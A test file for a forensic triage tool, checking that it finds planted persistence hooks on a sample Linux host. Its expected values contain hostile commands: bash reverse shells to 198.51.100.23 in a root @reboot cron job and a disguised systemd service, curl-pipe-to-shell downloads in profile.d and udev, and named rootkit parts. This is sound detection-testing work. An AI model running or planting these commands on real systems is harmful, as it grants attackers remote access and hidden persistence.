// The sample host's persistence story (fixtures/persistence/make-web01.sh): one planted hook of each kind found
// among the host's normal jobs and units, on web01 as a directory, a tar and a tar.gz; the units' states equal
// `systemctl --root=web01 list-unit-files`.
import fs from "node:fs";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { PERSISTENCE, run, threeTargets, WEB01 } from "./triage.js";

const systemctl = new Map(
  fs
    .readFileSync(path.join(PERSISTENCE, "web01.list-unit-files.txt"), "utf8")
    .split("\n")
    .slice(1)
    .map((l) => /^(\S+)\s+(\S+)\s+\S+$/.exec(l))
    .filter((m): m is RegExpExecArray => m !== null)
    .map((m) => [m[1]!, m[2]!]),
);

describe.each(await threeTargets(WEB01, "web01"))("web01's persistence as $kind", ({ path: target }) => {
  it("cronjobs: the normal jobs and root's @reboot reverse shell", async () => {
    const r = await run(target, "cronjobs");
    expect(r.warnings).toEqual([]);
    const jobs = r.records.filter((x) => x.kind === "spool");
    expect(jobs.map((x) => [x.user, x.schedule, x.command])).toEqual([
      ["alice", "30 1 * * *", "/usr/bin/rsync -a /var/www/ /srv/backup/www/"],
      ["root", "@reboot", "/bin/bash -c 'bash -i >& /dev/tcp/198.51.100.23/4444 0>&1'"],
    ]);
    expect(r.records.filter((x) => x.kind === "cron.daily").length).toBe(4);
  });

  it("services: every unit in systemctl's state; the planted service and timer enabled", async () => {
    const r = await run(target, "services");
    expect(r.warnings).toEqual([]);
    expect(Object.fromEntries(r.records.map((x) => [x.name, x.state]))).toEqual(Object.fromEntries(systemctl));
    expect(r.records.find((x) => x.name === "systemd-journal-sync.service")).toMatchObject({
      enabled: true,
      exec_start: ["/bin/bash -c 'exec bash -i >& /dev/tcp/198.51.100.23/443 0>&1'"],
      filepath: "/etc/systemd/system/systemd-journal-sync.service",
    });
    expect(r.records.find((x) => x.name === "systemd-journal-sync.timer")).toMatchObject({ enabled: true, on_boot_sec: ["2min"], on_unit_active_sec: ["15min"], timer_unit: "systemd-journal-sync.service" });
  });

  it("ld_preload, profile.d, udev, modules-load: each planted hook", async () => {
    const pre = await run(target, "ld_preload");
    expect(pre.records.map((x) => [x.library, x.exists])).toEqual([["/usr/lib/x86_64-linux-gnu/libprocesshider.so", true]]);
    expect(pre.warnings).toHaveLength(1);
    const env = await run(target, "environment", { lines: true });
    expect(env.records.filter((x) => x.filepath === "/etc/profile.d/sysinfo.sh" && x.line !== undefined).map((x) => x.line)).toEqual(["(/usr/bin/curl -fsS http://198.51.100.23/m | /bin/sh) >/dev/null 2>&1 &"]);
    const udev = await run(target, "udev_rules");
    expect(udev.records.filter((x) => String(x.filepath).startsWith("/etc/")).map((x) => x.program)).toEqual(["/bin/sh -c '/usr/bin/curl -fsS http://198.51.100.23/n | /bin/sh &'"]);
    const mods = await run(target, "modules_load");
    expect(mods.records.map((x) => x.module)).toEqual(["ipv6", "diamorphine", "loop", "bonding"]);
  });

  it("commandhistory: root's bash and bob's zsh with their times", async () => {
    const r = await run(target, "commandhistory");
    expect(r.records.filter((x) => x.user === "bob").map((x) => [String(x.ts), x.command])).toEqual([
      ["2024-03-07 10:00:00+00:00", "cd /var/www/html"],
      ["2024-03-07 10:00:12+00:00", "git pull"],
      ["2024-03-07 10:00:30+00:00", "sudo apt update"],
      ["2024-03-07 10:00:41+00:00", "crontab -l"],
    ]);
    expect(r.records.filter((x) => x.user === "root").map((x) => x.command)).toContain("sh /tmp/.x.sh");
  });
});
